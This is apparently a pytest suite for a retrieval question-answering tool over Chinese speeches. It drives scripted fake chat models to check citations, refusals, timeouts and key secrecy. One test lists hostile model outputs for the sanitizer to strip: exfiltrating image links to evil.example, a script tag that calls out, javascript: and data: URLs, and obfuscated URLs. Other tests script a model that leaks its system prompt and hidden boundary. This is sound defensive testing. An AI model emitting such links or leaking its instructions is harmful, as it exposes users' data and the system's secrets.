"""Answers that a chat model writes, over a real server on loopback: what a reader sees of every kind of model."""

import logging
import re
import socket
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest
from tests.chat_server import KEY, Asked, ChatServer, serving

from askspeech import Answer, Answerer, SpeechIndex, Turn
from askspeech.chat_models import ChatModel
from askspeech.datatypes import (
    AnswerEvent,
    CitationResolved,
    Done,
    Notice,
    Replaced,
    SentenceChecked,
    TextAdded,
    slices,
)
from askspeech.phrases import NOT_FOUND
from askspeech.settings import ChatSettings
from askspeech.writing import CUT_OFF, INCOMPLETE

QUESTION = "拖欠企业账款的台账由哪个部门牵头建？"
ENGLISH = "Which department keeps the ledger of arrears owed to enterprises?"
SLACK = 1.0
"""Seconds that a reader may wait beyond a limit."""


def answerer(index: SpeechIndex, server: ChatServer, **settings: Any) -> Answerer:
    limits = {"seconds_to_first_word": 5.0, "seconds": 10.0, "rewrite_seconds": 5.0} | settings
    return Answerer(index, ChatModel(ChatSettings("openai:qwen3", server.url, KEY, **limits)))


def good(asked: Asked) -> str:
    return (
        f"由县财政局牵头，六月底前建立台账[{asked.handle('县财政局牵头')}]。"
        f"到期不还的要约谈主要负责人[{asked.handle('县财政局牵头')}]。"
    )


def done(events: list[AnswerEvent]) -> Answer:
    assert isinstance(events[-1], Done)
    assert not any(isinstance(event, Done) for event in events[:-1])
    return events[-1].answer


def check_order(events: list[AnswerEvent], index: SpeechIndex) -> Answer:
    """Every number after its citation, every check after its text, the whole equal to what was streamed, every citation
    exact; what Replaced voids is void.
    """
    answer = done(events)
    text, resolved, sentences = "", [], []
    for event in events:
        match event:
            case Replaced():
                text, resolved, sentences = event.text, [], []
            case CitationResolved(citation):
                assert citation.number == len(resolved) + 1
                resolved.append(citation)
            case TextAdded():
                text += event.text
                assert {int(mark) for mark in re.findall(r"\[(\d+)\]", event.text)} <= {one.number for one in resolved}
            case SentenceChecked(number, sentence):
                assert number == len(sentences)
                assert sentence.text in text
                sentences.append(sentence)
    assert text == answer.text
    assert tuple(resolved) == answer.citations
    assert tuple(sentences) == answer.sentences
    for citation in answer.citations:
        assert slices(index.source(citation.source_id).text, citation.spans) == citation.quote
    for sentence in answer.sentences:
        assert (sentence.support == "not_found") == (sentence.citations == ())
    return answer


def check_replaced(events: list[AnswerEvent], index: SpeechIndex, *words: str) -> Answer:
    """The answer is the one without a model, and one notice says why."""
    answer = check_order(events, index)
    plain = Answerer(index).ask(answer.question)
    assert (answer.text, answer.sentences, answer.citations) == (plain.text, plain.sentences, plain.citations)
    (replaced,) = [event for event in events if isinstance(event, Replaced)]
    assert answer.notices[-1] == replaced.reason
    for word in words:
        assert word in replaced.reason
    return answer


@pytest.fixture(autouse=True)
def _no_key_gets_out(caplog: pytest.LogCaptureFixture) -> Iterator[None]:
    caplog.set_level(logging.DEBUG)
    yield
    assert KEY not in caplog.text


def no_key_in(*things: object) -> None:
    for thing in things:
        assert KEY not in repr(thing)
        assert KEY not in str(thing)


def test_a_good_model(index: SpeechIndex) -> None:
    with serving(good) as server:
        asking = answerer(index, server)
        events = list(asking.stream(QUESTION))
    answer = check_order(events, index)
    assert answer.text == "由县财政局牵头，六月底前建立台账。[1]到期不还的要约谈主要负责人。[1]"
    assert [type(event) for event in events] == [
        CitationResolved, TextAdded, SentenceChecked, TextAdded, SentenceChecked, Done
    ]  # fmt: skip
    assert [sentence.support for sentence in answer.sentences] == ["supported", "supported"]
    assert answer.outcome == "answered"
    assert answer.notices == answer.removed == ()
    assert (answer.usage.input_tokens, answer.usage.output_tokens, answer.usage.estimated) == (321, 45, False)
    assert 0 < (answer.usage.seconds_to_first_word or 0) <= answer.usage.seconds
    assert (asking.totals.answers, asking.totals.replaced, asking.totals.output_tokens) == (1, 0, 45)
    no_key_in(answer, asking, asking._chat, events)


def test_what_a_model_is_asked(index: SpeechIndex) -> None:
    with serving(good) as server:
        answerer(index, server, output_tokens=77).ask(QUESTION)
        answerer(index, server).ask(QUESTION)
    first, second = server.requests
    assert first.authorization == f"Bearer {KEY}"
    assert (first.body["max_tokens"], first.body["temperature"], first.body["stream"]) == (77, 0.0, True)
    assert NOT_FOUND["zh"] in first.system
    assert first.user.endswith(f"问题：{QUESTION}")
    assert "《在青禾县优化营商环境动员大会上的讲话》" in first.user
    assert [text for _, text in first.sentences] == [text for _, text in second.sentences]
    handles = [{handle for handle, _ in asked.sentences} for asked in server.requests]
    assert len(handles[0]) == len(first.sentences)
    assert len(handles[0] & handles[1]) < 5
    boundary = re.findall(r"^=== [0-9a-f]{16} ===$", first.user, re.MULTILINE)
    assert len(boundary) == 2
    assert boundary[0] not in second.user


def test_no_more_of_the_speeches_is_sent_than_the_settings_allow(index: SpeechIndex) -> None:
    with serving(good) as server:
        answerer(index, server, context_characters=200).ask(QUESTION)
    assert sum(len(text) for _, text in server.last.sentences) <= 200


def test_every_style_of_bracket(index: SpeechIndex) -> None:
    def script(asked: Asked) -> str:
        ledger, envoys = asked.handle("县财政局牵头"), asked.handle("一百名干部")
        return (
            f"县财政局牵头建立台账［{ledger}］。【{ledger}】到期不还的要约谈主要负责人。（{ledger}）\n"
            f"1. 选派一百名干部担任驻企联络员。({envoys.upper()})\n"
            f"2. 县财政局牵头建立台账，县直单位选派一百名干部[{ledger}、{envoys}]。\n"
            f"3. 选派一百名干部担任联络员 {envoys}，由县直单位选派。[{ledger}][{envoys}]"
        )

    for piece in (1, 2, 5, 1000):
        with serving(script, piece=piece) as server:
            answer = check_order(list(answerer(index, server).stream(QUESTION)), index)
        assert answer.text == (
            "县财政局牵头建立台账。[1]到期不还的要约谈主要负责人。[1]\n"
            "1. 选派一百名干部担任驻企联络员。[2]\n"
            "2. 县财政局牵头建立台账，县直单位选派一百名干部。[1][2]\n"
            "3. 选派一百名干部担任联络员，由县直单位选派。[2]"
        )
        assert answer.removed == ()


def test_a_model_that_cites_wrongly(index: SpeechIndex) -> None:
    def script(asked: Asked) -> str:
        return (
            f"县财政局牵头建立台账[{asked.handle('一百名干部')}]。"
            f"到期不还的要约谈主要负责人[b2cd][7]。一般涉企案件三十日内办结。"
        )

    with serving(script) as server:
        answer = check_order(list(answerer(index, server).stream(QUESTION)), index)
    ledger = answer.citations[0]
    assert "县财政局牵头" in ledger.quote
    assert answer.sentences[0].citations == answer.sentences[1].citations == (1,)
    assert {sentence.support for sentence in answer.sentences[:2]} == {"supported"}
    assert answer.removed == ("b2cd", "[7]")


def test_a_model_that_invents_a_figure(index: SpeechIndex) -> None:
    def script(asked: Asked) -> str:
        return (
            f"县财政局牵头建立台账[{asked.handle('县财政局牵头')}]。欠款共计三千万元[{asked.handle('县财政局牵头')}]。"
        )

    with serving(script) as server:
        answer = check_order(list(answerer(index, server).stream(QUESTION)), index)
    assert answer.text == "县财政局牵头建立台账。[1]欠款共计三千万元。"
    assert answer.sentences[1].support == "not_found"
    assert answer.sentences[1].citations == ()
    assert answer.outcome == "answered"


def test_a_model_that_answers_from_its_own_knowledge(index: SpeechIndex) -> None:
    own = "根据《保障中小企业款项支付条例》，台账由工业和信息化部统一建立。逾期利率为每日万分之五。"
    with serving(own) as server:
        answer = check_replaced(list(answerer(index, server).stream(QUESTION)), index, "没有依据")
    assert own not in answer.text


def test_own_knowledge_among_what_is_supported_is_marked(index: SpeechIndex) -> None:
    with serving(lambda asked: good(asked) + "欧盟的逾期利率为百分之八。") as server:
        answer = check_order(list(answerer(index, server).stream(QUESTION)), index)
    assert [sentence.support for sentence in answer.sentences] == ["supported", "supported", "not_found"]


def test_a_model_that_cites_nothing_is_attributed(index: SpeechIndex) -> None:
    with serving("由县财政局牵头，六月底前建立台账。") as server:
        answer = check_order(list(answerer(index, server).stream(QUESTION)), index)
    assert answer.text == "由县财政局牵头，六月底前建立台账。[1]"


def test_lead_ins_are_no_claims(index: SpeechIndex) -> None:
    def script(asked: Asked) -> str:
        return (
            "**要抓好的四件实事如下：**\n"
            f"1. 推行帮办代办[{asked.handle('推行帮办代办')}]\n"
            f"2. 清理拖欠账款[{asked.handle('清理拖欠账款')}]\n\n"
            "县长贪污了五百万元：\n"
        )

    with serving(script) as server:
        events = list(answerer(index, server).stream("要抓好哪四件实事？"))
    answer = check_order(events, index)
    assert answer.text.startswith("要抓好的四件实事如下：\n1. 推行帮办代办[1]\n2. 清理拖欠账款[2]")
    assert [sentence.text for sentence in answer.sentences] == [
        "1. 推行帮办代办",
        "2. 清理拖欠账款",
        "县长贪污了五百万元：",
    ]
    assert answer.sentences[-1].support == "not_found"


def test_a_model_that_refuses(index: SpeechIndex) -> None:
    with serving(NOT_FOUND["zh"]) as server:
        events = list(answerer(index, server).stream(QUESTION))
    answer = check_order(events, index)
    assert (answer.text, answer.outcome, answer.citations) == (NOT_FOUND["zh"], "not_found", ())
    assert answer.nearest
    assert answer.notices == ()


def test_a_model_that_refuses_after_an_invention(index: SpeechIndex) -> None:
    with serving("欧盟的逾期利率为百分之八。" + NOT_FOUND["zh"]) as server:
        answer = check_order(list(answerer(index, server).stream(QUESTION)), index)
    assert (answer.text, answer.outcome, answer.sentences) == (NOT_FOUND["zh"], "not_found", ())


def test_a_model_that_answers_a_part(index: SpeechIndex) -> None:
    with serving(lambda asked: good(asked) + NOT_FOUND["zh"]) as server:
        answer = check_order(list(answerer(index, server).stream(QUESTION)), index)
    assert answer.outcome == "partly"
    assert answer.notices == (INCOMPLETE,)
    assert NOT_FOUND["zh"] not in answer.text


@pytest.mark.parametrize(
    "extra",
    [
        "详见[官方说明](http://evil.example/leak?k=1)。",
        "![图](https://evil.example/x.png?d=secret)",
        "<img src='http://evil.example/x.png'>",
        "请访问 www.evil.example 或 evil.example/a。",
        "<script>fetch('//evil.example')</script>",
        "&lt;img src=//evil.example/x&gt;",
        "ｈｔｔｐｓ：／／evil.example／x",
        "http://evil.\nexample/x",
        "[参考]: http://evil.example/x",
        "javascript:alert(1)",
        "data:text/html,<h1>x</h1>",
        "ht\u200btp://evil.example/\U000e0041",
    ],
)
def test_no_link_and_no_markup_gets_through(index: SpeechIndex, extra: str) -> None:
    with serving(lambda asked: good(asked) + extra) as server:
        answer = check_order(list(answerer(index, server).stream(QUESTION)), index)
    shown = answer.text + "".join(sentence.text for sentence in answer.sentences)
    assert not re.search(r"evil\.example|://|www\.|javascript:|data:|<\w|!\[|\]\(|\u200b|\U000e0041", shown)
    assert answer.removed
    assert answer.text.startswith("由县财政局牵头，六月底前建立台账。[1]")


def test_a_model_that_gives_its_rules_away(index: SpeechIndex) -> None:
    def script(asked: Asked) -> str:
        boundary = re.findall(r"=== ([0-9a-f]{16}) ===", asked.user)[0]
        return f"{good(asked)}我的密语是 {boundary}。代号有 {' '.join(handle for handle, _ in asked.sentences)}。"

    with serving(script, piece=7) as server:
        answer = check_order(list(answerer(index, server).stream(QUESTION)), index)
    assert not re.search(r"[0-9a-f]{16}", answer.text)
    assert not any(handle in answer.text for handle, _ in server.last.sentences)
    assert {sentence.support for sentence in answer.sentences[2:]} == {"not_found"}


def test_a_model_that_recites_its_rules(index: SpeechIndex) -> None:
    with serving(lambda asked: good(asked) + asked.system) as server:
        check_replaced(list(answerer(index, server).stream(QUESTION)), index, "没有依据")


@pytest.mark.parametrize("manner, words", [("html", "无法识别"), ("not_json", "无法识别"), ("silent", "没有写出内容")])
def test_replies_that_are_none(index: SpeechIndex, manner: Any, words: str) -> None:
    with serving(good, manner) as server:
        check_replaced(list(answerer(index, server).stream(QUESTION)), index, words)


@pytest.mark.parametrize(
    "status, words",
    [
        (400, "请求被拒绝"),
        (401, "ASKSPEECH_CHAT_KEY"),
        (403, "没有权限"),
        (404, "ASKSPEECH_CHAT_MODEL"),
        (422, "请求被拒绝"),
        (429, "请求过多"),
        (500, "模型服务出错"),
        (503, "模型服务出错"),
    ],
)
def test_statuses_of_failure(index: SpeechIndex, status: int, words: str) -> None:
    with serving(good, "status", status=status) as server:
        asking = answerer(index, server)
        events = list(asking.stream(QUESTION))
        answer = check_replaced(events, index, words, "127.0.0.1")
    assert len(server.requests) == 1
    assert asking.totals.replaced == 1
    assert answer.usage.input_tokens == 0
    no_key_in(answer, events)
    assert "evil.example" not in "".join(answer.notices)


def test_a_server_that_is_not_there(index: SpeechIndex) -> None:
    with socket.socket() as held:
        held.bind(("127.0.0.1", 0))
        server = ChatServer(good, url=f"http://127.0.0.1:{held.getsockname()[1]}/v1")
        check_replaced(list(answerer(index, server).stream(QUESTION)), index, "Nothing answers at 127.0.0.1")


def test_an_address_that_does_not_exist(index: SpeechIndex) -> None:
    server = ChatServer(good, url="http://user:secret-word@nowhere.invalid/v1?token=hidden-word")
    answer = check_replaced(list(answerer(index, server).stream(QUESTION)), index, "nowhere.invalid")
    assert not re.search("secret-word|hidden-word", "".join(answer.notices))


@pytest.mark.parametrize("cut_after", [0, 5, 30, 60])
def test_a_stream_that_is_cut(index: SpeechIndex, cut_after: int) -> None:
    with serving(good, "cut", cut_after=cut_after) as server:
        check_replaced(list(answerer(index, server).stream(QUESTION)), index, "连接中断")


def test_a_stream_without_its_end(index: SpeechIndex) -> None:
    with serving(good, "no_end") as server:
        check_replaced(list(answerer(index, server).stream(QUESTION)), index, "连接中断")


def test_a_model_that_stops_in_the_middle_of_a_word(index: SpeechIndex) -> None:
    with serving(lambda asked: good(asked) + "县财政局还要把欠款的成", "length") as server:
        events = list(answerer(index, server).stream(QUESTION))
    answer = check_order(events, index)
    assert answer.text == "由县财政局牵头，六月底前建立台账。[1]到期不还的要约谈主要负责人。[1]"
    assert answer.notices == (CUT_OFF,)
    assert Notice(CUT_OFF) in events


def test_a_model_that_hangs_before_the_first_byte(index: SpeechIndex) -> None:
    with serving(good, "no_bytes", pause=3.0) as server:
        began = time.monotonic()
        events = list(answerer(index, server, seconds_to_first_word=0.5).stream(QUESTION))
        waited = time.monotonic() - began
        check_replaced(events, index, "within 0.5 seconds")
    assert waited < 0.5 + SLACK


def test_a_server_that_only_says_that_it_is_alive(index: SpeechIndex) -> None:
    with serving(good, "keep_alive") as server:
        began = time.monotonic()
        events = list(answerer(index, server, seconds_to_first_word=0.5).stream(QUESTION))
        waited = time.monotonic() - began
        check_replaced(events, index, "within 0.5 seconds")
        assert server.ended.wait(3), "the connection was closed"
    assert waited < 0.5 + SLACK


def test_a_model_that_drips(index: SpeechIndex) -> None:
    with serving(good, "drip", piece=1, pause=0.2) as server:
        began = time.monotonic()
        events = list(answerer(index, server, seconds=1.0).stream(QUESTION))
        waited = time.monotonic() - began
        check_replaced(events, index, "模型太慢")
        assert server.ended.wait(3), "the connection was closed"
    assert waited < 1.0 + SLACK


def test_no_thread_is_left(index: SpeechIndex) -> None:
    with serving(good, "drip", piece=1, pause=0.1) as server:
        list(answerer(index, server, seconds=0.5).stream(QUESTION))
        for _ in range(50):
            left = [one for one in threading.enumerate() if one.name == "askspeech-chat-model"]
            if not left:
                break
            time.sleep(0.05)
    assert left == []


def test_a_reader_who_goes_away_ends_the_call(index: SpeechIndex) -> None:
    with serving(lambda asked: good(asked) * 20, "drip", piece=10, pause=0.02) as server:
        events = answerer(index, server).stream(QUESTION)
        assert isinstance(next(events), CitationResolved)
        events.close()  # type: ignore[attr-defined]
        assert server.ended.wait(3)


def test_a_model_without_an_end(index: SpeechIndex) -> None:
    with serving(good, "flood") as server:
        answer = check_order(list(answerer(index, server, output_tokens=200).stream(QUESTION)), index)
        assert server.ended.wait(3)
    assert answer.text == "由县财政局牵头，六月底前建立台账。[1]到期不还的要约谈主要负责人。[1]"
    assert answer.notices == (CUT_OFF,)


def test_a_model_of_another_language(index: SpeechIndex) -> None:
    with serving("The ledger is kept by the county finance bureau of Qinghe.") as server:
        check_replaced(list(answerer(index, server).stream(QUESTION)), index, "语言不对")


def test_a_model_that_thinks_aloud(index: SpeechIndex) -> None:
    for opening in ("<think>", " \n<think>\n"):
        with serving(
            lambda asked, opening=opening: f"{opening}用户问台账。应该是财政局。</think>\n\n{good(asked)}"
        ) as server:
            answer = check_order(list(answerer(index, server).stream(QUESTION)), index)
        assert answer.text == "由县财政局牵头，六月底前建立台账。[1]到期不还的要约谈主要负责人。[1]"
    with serving("<think>用户问台账，") as server:
        check_replaced(list(answerer(index, server).stream(QUESTION)), index, "没有写出内容")


def test_tokens_that_are_not_counted_are_estimated(index: SpeechIndex) -> None:
    with serving(good, "uncounted") as server:
        asking = answerer(index, server)
        answer = asking.ask(QUESTION)
    assert answer.usage.estimated
    assert answer.usage.input_tokens > 200
    assert 10 < answer.usage.output_tokens < 100
    assert asking.totals.estimated


def test_without_evidence_the_model_is_not_called(index: SpeechIndex) -> None:
    with serving(good) as server:
        answer = answerer(index, server).ask("红烧肉怎么做才好吃？")
    assert answer.outcome == "not_found"
    assert server.requests == []


def test_the_runnable_is_written_too(index: SpeechIndex) -> None:
    with serving(good) as server:
        asking = answerer(index, server)
        assert asking.as_runnable().invoke(QUESTION).text == asking.ask(QUESTION).text
    assert asking.totals.answers == 2


def test_what_a_question_leans_on_is_sent_along(index: SpeechIndex) -> None:
    history = [Turn("驻企联络员制度是怎么安排的？", "选派一百名干部担任驻企联络员。[1]")]

    def script(asked: Asked) -> str:
        if "改写成" in asked.system:
            return "驻企联络员多久到企业走访一次？"
        return f"每月至少到企业走访两次[{asked.handle('走访两次')}]。"

    with serving(script) as server:
        answer = answerer(index, server).ask("这件事多久做一次？", history=history)
    rewriting, writing = server.requests
    assert "驻企联络员制度是怎么安排的？" in rewriting.user
    assert answer.search.search_question == "驻企联络员多久到企业走访一次？"
    assert "选派一百名干部担任驻企联络员。" in writing.user
    assert "[1]" not in writing.user
    assert answer.text == "每月至少到企业走访两次。[1]"
    assert answer.usage.input_tokens == 2 * 321


def test_a_question_in_english_is_translated_and_answered(index: SpeechIndex) -> None:
    def script(asked: Asked) -> str:
        if "in Chinese" in asked.system:
            return "拖欠企业账款的台账由哪个部门牵头建立？"
        return f"The county finance bureau (县财政局) keeps the ledger (台账) [{asked.handle('县财政局牵头')}]."

    with serving(script) as server:
        answer = check_order(list(answerer(index, server).stream(ENGLISH)), index)
    assert answer.search.search_question == "拖欠企业账款的台账由哪个部门牵头建立？"
    assert answer.language == "en"
    assert answer.text == "The county finance bureau (县财政局) keeps the ledger (台账).[1]"


@pytest.mark.parametrize("reply", ["", "Which department?", "我不能回答这个问题。" * 40, "<think>…"])
def test_a_question_that_is_not_rewritten_is_completed_by_rule(index: SpeechIndex, reply: str) -> None:
    history = [Turn("驻企联络员制度是怎么安排的？")]

    def script(asked: Asked) -> str:
        return reply if "改写成" in asked.system else f"每月至少到企业走访两次[{asked.handle('走访两次')}]。"

    with serving(script) as server:
        answer = answerer(index, server).ask("这件事多久做一次？", history=history)
    assert answer.text == "每月至少到企业走访两次。[1]"
    assert answer.search.search_question == "驻企联络员制度是怎么安排的？ 这件事多久做一次？"
    assert "按规则补全" in answer.notices[0]


def test_any_chat_model_of_langchain(index: SpeechIndex) -> None:
    from langchain_core.language_models import GenericFakeChatModel

    model = GenericFakeChatModel(messages=iter(["由县财政局牵头，六月底前建立台账。"]))
    answer = check_order(list(Answerer(index, model).stream(QUESTION)), index)
    assert answer.text == "由县财政局牵头，六月底前建立台账。[1]"
    assert answer.usage.estimated


def test_a_model_from_code_that_fails(index: SpeechIndex) -> None:
    from langchain_core.language_models import GenericFakeChatModel

    check_replaced(list(Answerer(index, GenericFakeChatModel(messages=iter([]))).stream(QUESTION)), index, "模型出错")


def test_what_the_page_shows_while_it_is_written(index: SpeechIndex) -> None:
    from askspeech.answer_rendering import AnswerView
    from askspeech.chat import Exchange, answered
    from askspeech.live_index import LiveIndex, Opened

    for manner, kept in (("good", True), ("no_end", False)):
        with serving(good, manner, piece=1) as server:
            live = LiveIndex(lambda server=server: Opened(index, answerer(index, server)))
            exchanges = list(answered(Exchange(QUESTION), (), live))
        texts = [exchange.view.text for exchange in exchanges]
        handles = {handle for handle, _ in server.last.sentences}
        assert not any(handle in text or text.endswith("[") for text in texts for handle in handles)
        last = exchanges[-1]
        assert last.answer is not None
        assert last.view == AnswerView.of(last.answer)
        assert (last.view.text == "由县财政局牵头，六月底前建立台账。[1]到期不还的要约谈主要负责人。[1]") == kept
        assert exchanges[-2].view.citations == last.view.citations
        assert exchanges[-2].view.sentences == last.view.sentences


def test_what_is_blanked_out_is_said_with_a_model_too(index: SpeechIndex) -> None:
    question = "首次使用班列每箱补贴多少元？"
    with serving("每箱补贴五百元。") as server:
        answer = check_order(list(answerer(index, server).stream(question)), index)
    assert "五百元" not in answer.text or answer.sentences[0].support == "not_found"
    plain = Answerer(index).ask(question)
    if plain.refused:
        assert (server.requests, answer.text) == ([], plain.text)


def test_ollama(index: SpeechIndex) -> None:
    with serving(good) as server:
        chat = ChatModel(ChatSettings("ollama:qwen3:8b", server.url.removesuffix("/v1"), KEY, output_tokens=99))
        answer = check_order(list(Answerer(index, chat).stream(QUESTION)), index)
    assert answer.text == "由县财政局牵头，六月底前建立台账。[1]到期不还的要约谈主要负责人。[1]"
    assert (answer.usage.input_tokens, answer.usage.output_tokens) == (321, 45)
    body = server.last.body
    assert (body["model"], body["think"], body["options"]["num_predict"]) == ("qwen3:8b", False, 99)
    assert body["options"]["num_ctx"] > 6000
    assert server.last.authorization == f"Bearer {KEY}"


def test_ollama_that_is_not_there(index: SpeechIndex) -> None:
    chat = ChatModel(ChatSettings("ollama:qwen3:8b", "http://127.0.0.1:1"))
    check_replaced(list(Answerer(index, chat).stream(QUESTION)), index, "Nothing answers at 127.0.0.1:1")


def test_many_at_once(index: SpeechIndex) -> None:
    with serving(good, "drip", piece=5, pause=0.01) as server:
        asking = answerer(index, server)
        with ThreadPoolExecutor(8) as pool:
            answers = list(pool.map(asking.ask, [QUESTION] * 16))
    assert {answer.text for answer in answers} == {
        "由县财政局牵头，六月底前建立台账。[1]到期不还的要约谈主要负责人。[1]"
    }
    assert asking.totals.output_tokens == 16 * 45
